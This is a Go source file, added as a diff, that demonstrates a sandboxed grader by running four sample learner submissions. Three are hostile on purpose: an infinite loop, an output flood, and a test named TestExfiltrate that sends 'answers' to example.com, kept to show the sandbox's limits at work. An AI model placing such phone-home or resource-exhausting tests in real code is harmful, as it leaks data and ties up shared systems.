@@ -0,0 +1,133 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"time"
+
+	"go-solid/sandbox"
+)
+
+// Each submission is a tiny module with tests, as a learner would hand it in
+const goMod = "module submission\n\ngo 1.25\n"
+
+const salary = `package submission
+
+type Role interface{ Salary() int }
+
+type Engineer struct{}
+
+func (Engineer) Salary() int { return 3000 }
+
+type Senior struct{}
+
+func (Senior) Salary() int { return 4000 } // the exercise says 5000
+`
+
+var submissions = []struct {
+	name  string
+	files map[string]string
+}{
+	{"honest attempt", map[string]string{"salary.go": salary, "salary_test.go": `package submission
+
+import "testing"
+
+func TestEngineer(t *testing.T) {
+	if got := (Engineer{}).Salary(); got != 3000 {
+		t.Fatalf("got %d", got)
+	}
+}
+
+func TestSenior(t *testing.T) {
+	if got := (Senior{}).Salary(); got != 5000 {
+		t.Fatalf("got %d", got)
+	}
+}
+`}},
+	{"infinite loop", map[string]string{"loop_test.go": `package submission
+
+import "testing"
+
+func TestForever(t *testing.T) {
+	for {
+	}
+}
+`}},
+	{"phones home", map[string]string{"net_test.go": `package submission
+
+import (
+	"net/http"
+	"testing"
+)
+
+func TestExfiltrate(t *testing.T) {
+	if _, err := http.Get("http://example.com/?answers"); err != nil {
+		t.Fatal(err)
+	}
+}
+`}},
+	{"floods output", map[string]string{"spam_test.go": `package submission
+
+import (
+	"fmt"
+	"testing"
+)
+
+func TestSpam(t *testing.T) {
+	for i := 0; ; i++ {
+		fmt.Println("spam", i)
+	}
+}
+`}},
+}
+
+func main() {
+	ctx := context.Background()
+	// ✅ The grader depends on the Sandbox abstraction; Container{Runtime: "runsc"} drops in
+	var sb sandbox.Sandbox = sandbox.Process{GoCache: filepath.Join(os.TempDir(), "go-solid-sandbox-cache")}
+	// CPU stops busy loops; the timeout is generous because the first run compiles the standard library
+	limits := sandbox.Limits{CPU: 10 * time.Second, Memory: 2 << 30, FileSize: 64 << 20, Output: 256 << 10}
+
+	for _, sub := range submissions {
+		dir, err := write(sub.files)
+		if err != nil {
+			fmt.Println("❌", err)
+			return
+		}
+		defer os.RemoveAll(dir)
+
+		report, err := sandbox.Grade(ctx, sb, sandbox.Job{Dir: dir, Timeout: 2 * time.Minute, Limits: limits})
+		if err != nil {
+			fmt.Println("❌ sandbox failed:", err)
+			continue
+		}
+		mark := "✅"
+		if !report.OK() {
+			mark = "❌"
+		}
+		fmt.Printf("%s %-15s score %.2f  passed %v  failed %v", mark, sub.name, report.Score(), report.Passed(), report.Failed())
+		switch {
+		case report.Outcome.TimedOut:
+			fmt.Print("  ⏱️ killed after the timeout")
+		case report.Outcome.Truncated:
+			fmt.Print("  ✂️ killed for flooding its output")
+		}
+		fmt.Println()
+	}
+}
+
+func write(files map[string]string) (string, error) {
+	dir, err := os.MkdirTemp("", "submission-")
+	if err != nil {
+		return "", err
+	}
+	files["go.mod"] = goMod
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
+			return "", err
+		}
+	}
+	return dir, nil
+}